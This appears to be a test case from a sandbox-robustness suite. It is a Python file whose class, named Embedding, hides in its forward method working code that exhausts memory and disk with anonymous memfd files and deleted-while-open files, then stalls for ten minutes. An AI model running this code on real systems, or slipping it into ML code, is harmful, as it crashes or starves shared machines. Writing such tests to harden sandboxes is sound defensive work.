# /// attack
# tries = "Fills memory and disk with files that have no name: made in memory, and deleted while they are open."
# status = "crashed"
# says = "GiB in files"
# patience = 60.0
# ///
import contextlib
import os
import time

BLOCK = bytes(16 << 20)


class Embedding:
    def __init__(self, num_embeddings, embedding_dim): ...

    def forward(self, ids):
        with contextlib.suppress(OSError):
            while True:
                os.write(os.memfd_create("kept"), BLOCK)
        for number in range(128):
            file = os.open(f"kept-{number}", os.O_WRONLY | os.O_CREAT)
            os.unlink(f"kept-{number}")
            os.write(file, BLOCK)
        time.sleep(600)
